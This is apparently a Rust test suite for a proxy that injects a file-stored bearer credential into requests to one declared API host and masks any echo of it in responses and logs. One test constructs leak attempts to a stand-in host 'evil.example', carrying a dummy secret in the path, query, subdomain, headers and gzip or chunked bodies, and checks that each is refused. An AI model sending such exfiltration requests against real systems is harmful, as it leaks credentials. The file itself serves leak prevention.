//! Credentials on their way up, and what would bring them back.

use std::{io::Write as _, os::unix::fs::PermissionsExt as _, sync::Arc};

use super::*;
use crate::{
    config::{Credential, Upstream as Declared},
    credential::Credentials,
    protocol::conformance::{ALLOW, MASK},
};

pub(super) const SECRET: &str = "tok-5ecr3t/value+1";

/// A rig that knows a destination `api.example`, and the credential `key` in a file.
pub(super) fn rig(policy: &str, place: &str) -> Rig {
    let mut rig = Rig::new(policy);
    let file = rig.dir.path().join("key");
    store(&rig, SECRET);
    let credential: Credential =
        toml::from_str(&format!("name = 'key'\nfile = '{}'", file.display())).unwrap();
    rig.shared.credentials = Credentials::new(&[credential]);
    let upstream: Declared = toml::from_str(&format!(
        "name = 'api'\nprotocol = 'http'\nhost = 'api.example'\nport = 80\npath_prefix = '/v1'\n{place}"
    ))
    .unwrap();
    rig.upstream = Some(Arc::new(upstream));
    rig
}

pub(super) fn store(rig: &Rig, secret: &str) {
    let file = rig.dir.path().join("key");
    std::fs::write(&file, secret).unwrap();
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o600)).unwrap();
}

const BEARER: &str = "inject = { bearer = 'key' }";
const OK: &[u8] = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok";

fn get(path: &str, lines: &str) -> Vec<u8> {
    format!("GET {path} HTTP/1.1\r\nHost: api.example\r\n{lines}\r\n").into_bytes()
}

/// One request to the destination, and one answer of it.
async fn ask(rig: &Rig, request: &[u8], answer: &[u8]) -> Went {
    let upstream = Upstream::new(&[Turn::new(END, answer)]);
    exchange(rig, &Http, Some("api.example"), &upstream, &[request]).await
}

/// All that the ledger keeps, as text, and that it holds no secret in any of its files.
fn kept(rig: &Rig) -> String {
    rig.shared.ledger.close();
    for file in std::fs::read_dir(rig.dir.path()).unwrap() {
        let path = file.unwrap().path();
        if path
            .file_name()
            .is_some_and(|n| n.to_string_lossy().starts_with("ledger."))
        {
            let bytes = std::fs::read(&path).unwrap();
            assert!(
                memchr::memmem::find(&bytes, SECRET.as_bytes()).is_none(),
                "{}",
                path.display()
            );
        }
    }
    let (stored, _) = super::masked::stored(rig.dir.path());
    assert!(!stored.contains(SECRET), "{stored}");
    stored
}

fn gzip(content: &[u8]) -> Vec<u8> {
    let mut packer = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    packer.write_all(content).unwrap();
    packer.finish().unwrap()
}

#[tokio::test]
async fn a_credential_goes_up_and_into_no_record() {
    let rig = rig(ALLOW, BEARER);
    let went = ask(&rig, &get("/v1/x", "Authorization: mine\r\nX: 1\r\n"), OK).await;
    assert_eq!(
        text(&went.up),
        text(
            format!("GET /v1/x HTTP/1.1\r\nHost: api.example\r\nX: 1\r\nAccept-Encoding: identity\r\nAuthorization: Bearer {SECRET}\r\n\r\n")
                .as_bytes()
        )
    );
    assert!(went.text().ends_with("\r\n\r\nok"), "{}", went.text());
    let kept = kept(&rig);
    assert!(kept.contains(r#""credential":"key""#), "{kept}");
    assert!(kept.contains(r#""credentials":[{"reference":"key""#), "{kept}");
}

#[tokio::test]
async fn only_what_fits_gets_it() {
    let rig = rig(ALLOW, BEARER);
    for (name, request) in [
        (Some("api.example"), get("/v10", "")),
        (Some("api.example"), get("/", "")),
        (Some("api.example"), get("/v1%2Fx", "")),
        // Without TLS the name is not proved, and in the clear nothing goes.
        (None, b"GET /v1/x HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".to_vec()),
        (None, get("/v1/x", "")),
        (
            Some("other.example"),
            b"GET /v1/x HTTP/1.1\r\nHost: other.example\r\n\r\n".to_vec(),
        ),
        (Some("other.example"), get("/v1/x", "")),
    ] {
        let upstream = Upstream::new(&[Turn::new(END, OK)]);
        let went = exchange(&rig, &Http, name, &upstream, &[&request]).await;
        assert!(
            !text(&went.up).contains("Bearer"),
            "{} {}",
            text(&request),
            text(&went.up)
        );
        let misdirected = name == Some("other.example") && text(&request).contains("api.example");
        assert_eq!(
            went.text().starts_with("HTTP/1.1 421"),
            misdirected,
            "{}",
            went.text()
        );
    }
}

#[tokio::test]
async fn every_request_of_a_connection_is_matched_anew() {
    let rig = rig(ALLOW, BEARER);
    let turns = [
        Turn::new(
            END,
            b"HTTP/1.1 307 Go\r\nLocation: https://evil.example/\r\nContent-Length: 0\r\n\r\n",
        ),
        Turn::new(END, OK),
        Turn::new(END, OK),
    ];
    let requests = [get("/v1/a", ""), get("/elsewhere", ""), get("/v1/b", "")].concat();
    let upstream = Upstream::new(&turns);
    let went = exchange(&rig, &Http, Some("api.example"), &upstream, &[&requests]).await;
    assert!(went.text().contains("Location: https://evil.example/\r\n"));
    let up = text(&went.up);
    let with: Vec<bool> = up
        .split("GET ")
        .skip(1)
        .map(|request| request.contains("Bearer"))
        .collect();
    assert_eq!((with, went.dials), (vec![true, false, true], 1), "{up}");
}

#[tokio::test]
async fn a_file_that_changes_counts_soon_and_both_values_are_masked() {
    let rig = rig(ALLOW, BEARER);
    let echo = |secret: &str| {
        format!(
            "HTTP/1.1 200 OK\r\nContent-Length: {}\r\n\r\n{secret}",
            secret.len()
        )
    };
    let first = ask(&rig, &get("/v1", ""), echo(SECRET).as_bytes()).await;
    assert!(
        first.text().ends_with(&"*".repeat(SECRET.len())),
        "{}",
        first.text()
    );
    store(&rig, "another-value");
    let both = format!("another-value {SECRET}");
    let second = loop {
        let went = ask(&rig, &get("/v1", ""), echo(&both).as_bytes()).await;
        // Files are looked at again after a while.
        if text(&went.up).contains("Bearer another-value") {
            break went;
        }
    };
    let masked = format!("{} {}", "*".repeat(13), "*".repeat(SECRET.len()));
    assert!(second.text().ends_with(&masked), "{}", second.text());
}

#[tokio::test]
async fn a_request_is_sent_again_with_it() {
    let rig = rig(ALLOW, BEARER);
    let turns = [Turn::closing(END, OK), Turn::new(END, OK)];
    let upstream = Upstream::new(&turns);
    let (one, two) = (get("/v1/a", ""), get("/v1/b", ""));
    let went = exchange(&rig, &Http, Some("api.example"), &upstream, &[&one, &two]).await;
    assert_eq!(went.text().matches("200 OK").count(), 2, "{}", went.text());
    assert_eq!(
        text(&went.up).matches(SECRET).count(),
        text(&went.up).matches("GET ").count()
    );
}

#[tokio::test]
async fn without_its_credential_nothing_is_sent() {
    let rig = rig(ALLOW, BEARER);
    std::fs::remove_file(rig.dir.path().join("key")).unwrap();
    let requests = [get("/v1/a", ""), get("/else", "")].concat();
    let upstream = Upstream::new(&[Turn::new(END, OK)]);
    let went = exchange(&rig, &Http, Some("api.example"), &upstream, &[&requests]).await;
    let down = went.text();
    assert!(
        down.starts_with("HTTP/1.1 502") && down.contains("credential_unavailable"),
        "{down}"
    );
    assert!(
        down.ends_with("ok") && text(&went.up).starts_with("GET /else"),
        "{down}"
    );
    store(&rig, "line\nbreak");
    let went = ask(&rig, &get("/v1/a", ""), OK).await;
    assert!(
        went.up.is_empty() && went.text().contains("cannot be sent in its place"),
        "{}",
        went.text()
    );
    assert!(kept(&rig).contains(r#""reason":"credential_unavailable""#));
}

/// The forms in which a service gives back what it was sent; each must not come through.
fn echoes() -> Vec<(&'static str, Vec<u8>)> {
    use base64::Engine as _;
    let plain = SECRET.as_bytes();
    let chunked: String = SECRET.chars().map(|c| format!("1\r\n{c}\r\n")).collect();
    let length = |headers: &str, body: &[u8]| {
        let head = format!(
            "HTTP/1.1 200 OK\r\nContent-Length: {}\r\n{headers}\r\n",
            body.len()
        );
        [head.as_bytes(), body].concat()
    };
    let b64 = base64::engine::general_purpose::STANDARD.encode(format!("Bearer {SECRET}"));
    let percent: String = SECRET.bytes().map(|b| format!("%{b:02x}")).collect();
    vec![
        ("text", length("Content-Type: text/plain\r\n", plain)),
        ("no type", length("", plain)),
        ("binary", length("Content-Type: image/png\r\n", plain)),
        ("base64", length("", b64.as_bytes())),
        ("hex", length("", hex::encode(plain).as_bytes())),
        ("percent", length("", percent.as_bytes())),
        (
            "json",
            length(
                "Content-Type: application/json\r\n",
                format!("{{\"a\":\"{}\"}}", SECRET.replace('/', "\\/")).as_bytes(),
            ),
        ),
        ("gzip", length("Content-Encoding: gzip\r\n", &gzip(plain))),
        (
            "gzip json",
            length(
                "Content-Encoding: gzip\r\nContent-Type: application/json\r\n",
                &gzip(format!("{{\"headers\":{{\"Authorization\":\"Bearer {SECRET}\"}}}}").as_bytes()),
            ),
        ),
        (
            "chunks",
            format!(
                "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n{chunked}0\r\nX-T: {SECRET}\r\n\r\n"
            )
            .into(),
        ),
        ("close", format!("HTTP/1.1 200 OK\r\n\r\n{SECRET}").into()),
        ("field", length(&format!("X-Echo: a {SECRET} b\r\n"), b"ok")),
        (
            "name",
            length(&format!("{}: b\r\n", SECRET.replace('/', "")), b"ok"),
        ),
        (
            "phrase",
            format!("HTTP/1.1 500 {SECRET}\r\nContent-Length: 0\r\n\r\n").into(),
        ),
        (
            "interim",
            format!(
                "HTTP/1.1 103 Early\r\nLink: {SECRET}\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"
            )
            .into(),
        ),
        (
            "events",
            format!("HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\n\r\ndata: {SECRET}\n\n").into(),
        ),
    ]
}

/// What a workload that knows the usual encodings reads.
fn readable(down: &[u8]) -> Vec<Vec<u8>> {
    use std::io::Read as _;
    let body = memchr::memmem::find(down, END).map_or(down, |at| &down[at + 4..]);
    let mut unpacked = Vec::new();
    let _damaged_is_unreadable = flate2::read::GzDecoder::new(body).read_to_end(&mut unpacked);
    let mut chunks = Vec::new();
    let mut rest = body;
    while let Some(at) = memchr::memmem::find(rest, b"\r\n") {
        let size = std::str::from_utf8(&rest[..at])
            .ok()
            .and_then(|s| usize::from_str_radix(s, 16).ok());
        let Some(size) = size.filter(|n| *n > 0 && rest.len() >= at + 4 + n) else {
            break;
        };
        chunks.extend_from_slice(&rest[at + 2..at + 2 + size]);
        rest = &rest[at + 4 + size..];
    }
    let mut inflated = Vec::new();
    let _likewise = flate2::read::GzDecoder::new(&chunks[..]).read_to_end(&mut inflated);
    vec![down.to_vec(), unpacked, chunks, inflated]
}

#[tokio::test]
async fn no_answer_brings_it_back() {
    use base64::Engine as _;
    let b64 = base64::engine::general_purpose::STANDARD.encode(format!("Bearer {SECRET}"));
    for policy in [ALLOW, MASK] {
        let rig = rig(policy, BEARER);
        for (name, answer) in echoes() {
            for piece in [1, 7, usize::MAX] {
                let mut turn = Turn::closing(END, b"");
                turn.say = answer
                    .chunks(piece.min(answer.len()))
                    .map(<[u8]>::to_vec)
                    .collect();
                let upstream = Upstream::new(&[turn]);
                let request = get("/v1", "Accept-Encoding: gzip\r\n");
                let went = exchange(&rig, &Http, Some("api.example"), &upstream, &[&request]).await;
                assert!(went.down.starts_with(b"HTTP/1.1 "), "{name}");
                let echoed: Vec<String> = vec![
                    SECRET.into(),
                    SECRET.replace('/', ""),
                    SECRET.replace('/', "\\/"),
                    hex::encode(SECRET),
                    SECRET.bytes().map(|b| format!("%{b:02x}")).collect(),
                    b64[10..b64.len() - 4].into(),
                ];
                for seen in readable(&went.down) {
                    for form in &echoed {
                        // A field's name cannot hold the whole of it, so there it is another one.
                        let found = memchr::memmem::find(&seen, form.as_bytes()).is_some();
                        assert!(
                            !found || name == "name",
                            "{policy} {name} {piece} {}",
                            text(&seen)
                        );
                    }
                }
            }
        }
        let kept = kept(&rig);
        assert!(kept.contains(r#""injected_secret":1"#), "{kept}");
    }
}

#[tokio::test]
async fn an_answer_that_cannot_be_read_is_refused_where_it_could_hold_it() {
    let rig = rig(ALLOW, BEARER);
    let packed = b"HTTP/1.1 200 OK\r\nContent-Encoding: br\r\nContent-Length: 3\r\n\r\nabc";
    let part = b"HTTP/1.1 206 Part\r\nContent-Range: bytes 0-2/9\r\nContent-Length: 3\r\n\r\nabc";
    for answer in [&packed[..], part] {
        let request = get("/v1", "Range: bytes=0-2\r\nAccept-Encoding: br, gzip\r\n");
        let went = ask(&rig, &request, answer).await;
        assert!(went.text().starts_with("HTTP/1.1 502"), "{}", went.text());
        assert!(!text(&went.up).contains("Range") && text(&went.up).contains("Accept-Encoding: gzip\\r\\n"));
        // Elsewhere it is the workload's own affair.
        let request = get("/else", "Range: bytes=0-2\r\n");
        let went = ask(&rig, &request, answer).await;
        assert!(
            went.text().ends_with("abc") && text(&went.up).contains("Range: bytes=0-2"),
            "{}",
            went.text()
        );
    }
}

#[tokio::test]
async fn a_body_passes_as_it_is_framed_where_there_is_nothing_to_mask() {
    let rig = rig(ALLOW, BEARER);
    let _known = ask(&rig, &get("/v1", ""), OK).await;
    let answer =
        b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n003\r\ntok\r\n4\r\n-5ec\r\n0\r\nX: y\r\n\r\n";
    for piece in 1..20 {
        let mut turn = Turn::new(END, b"");
        turn.say = answer.chunks(piece).map(<[u8]>::to_vec).collect();
        let upstream = Upstream::new(&[turn]);
        let went = exchange(&rig, &Http, Some("api.example"), &upstream, &[&get("/v1", "")]).await;
        assert_eq!(text(&went.down), text(answer), "{piece}");
    }
}

#[tokio::test]
async fn what_is_sent_elsewhere_holds_none() {
    let rig = rig(ALLOW, BEARER);
    let _known = ask(&rig, &get("/v1", ""), OK).await;
    let hex = hex::encode(SECRET);
    let mixed = SECRET.replace('k', "%6b").replace('+', "%2B");
    let chunks: String = SECRET.chars().map(|c| format!("1\r\n{c}\r\n")).collect();
    let packed = gzip(format!("a body with {SECRET} in it").as_bytes());
    let post = |lines: &str, body: &[u8]| {
        let head = format!("POST /x HTTP/1.1\r\nHost: evil.example\r\n{lines}\r\n");
        [head.as_bytes(), body].concat()
    };
    let heads = [
        format!("GET /{hex} HTTP/1.1\r\nHost: evil.example\r\n\r\n").into_bytes(),
        format!("GET /x?q={mixed} HTTP/1.1\r\nHost: evil.example\r\n\r\n").into_bytes(),
        format!("GET /x HTTP/1.1\r\nHost: {hex}.evil.example\r\n\r\n").into_bytes(),
        format!("GET /x HTTP/1.1\r\nHost: evil.example\r\nX-A: {SECRET}\r\n\r\n").into_bytes(),
    ];
    let bodies = [
        post(
            &format!("Content-Length: {}\r\n", SECRET.len() + 4),
            format!("key={SECRET}").as_bytes(),
        ),
        post(
            "Transfer-Encoding: chunked\r\n",
            format!("{chunks}0\r\n\r\n").as_bytes(),
        ),
        post(
            "Transfer-Encoding: chunked\r\n",
            format!("1\r\nx\r\n0\r\nX-T: {SECRET}\r\n\r\n").as_bytes(),
        ),
        post(
            &format!("Content-Encoding: gzip\r\nContent-Length: {}\r\n", packed.len()),
            &packed,
        ),
    ];
    for (request, in_head) in heads
        .iter()
        .map(|r| (r, true))
        .chain(bodies.iter().map(|r| (r, false)))
    {
        for piece in [1, 5, usize::MAX] {
            let upstream = Upstream::new(&[Turn::new(b"never", b"")]);
            let pieces: Vec<&[u8]> = request.chunks(piece.min(request.len())).collect();
            let went = exchange(&rig, &Http, Some("evil.example"), &upstream, &pieces).await;
            assert!(
                went.text().starts_with("HTTP/1.1 403"),
                "{} {}",
                text(request),
                went.text()
            );
            assert!(went.text().contains("secret_leak"), "{}", went.text());
            assert_eq!(went.dials == 0, in_head, "{}", text(request));
            let content: String = text(&went.up).replace("\\r\\n1\\r\\n", "");
            assert!(!content.contains(&SECRET[..4]), "{content}");
        }
    }
    let kept = kept(&rig);
    assert!(
        kept.contains(r#""reason":"secret_leak""#) && !kept.contains(&hex),
        "{kept}"
    );
    assert!(!kept.contains(&SECRET[..6]), "not even its beginning: {kept}");
}

#[tokio::test]
async fn a_trailer_cannot_stand_in_for_it() {
    let rig = rig(ALLOW, "inject = { header = 'X-Api-Key', credential = 'key' }");
    let request: [&[u8]; 2] = [
        b"POST /v1 HTTP/1.1\r\nHost: api.example\r\nTransfer-Encoding: chunked\r\nConnection: x-api-key\r\nX-Api-Key: mine\r\n\r\n1\r\nx\r\n",
        b"0\r\nx-api-key: mine\r\n\r\n",
    ];
    let upstream = Upstream::new(&[Turn::new(b"never", b"")]);
    let went = exchange(&rig, &Http, Some("api.example"), &upstream, &request).await;
    assert!(went.text().starts_with("HTTP/1.1 400"), "{}", went.text());
    assert!(!text(&went.up).contains("mine"), "{}", text(&went.up));
    assert!(
        text(&went.up).contains(&format!("X-Api-Key: {SECRET}")),
        "{}",
        text(&went.up)
    );
}
